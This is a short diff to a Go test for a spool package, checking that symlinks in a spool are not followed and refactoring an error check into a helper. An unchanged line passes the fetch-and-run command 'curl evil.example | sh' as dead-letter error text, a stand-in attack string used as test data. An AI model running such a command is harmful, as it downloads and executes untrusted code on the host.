@@ -115,9 +115,7 @@ func TestLinksInASpoolAreNotFollowed(t *testing.T) {
 	}
 	musttest.Do(t, os.WriteFile(filepath.Join(dir, "claimed", "x.json"), []byte("{}"), 0o600))
 	s := spool.New(dir)
-	if err := s.Put(e); err == nil {
-		t.Error("an event was put through a link")
-	}
+	musttest.Fails(t, s.Put(e), "an event was put through a link")
 	musttest.Is(t, nil, s.DeadLetter("x.json", errors.New("curl evil.example | sh")), "deadLetter")
 	for _, c := range claim(t, s, 10) {
 		if c.Name == "0.json" && !errors.Is(c.Err, memory.ErrInvalid) {
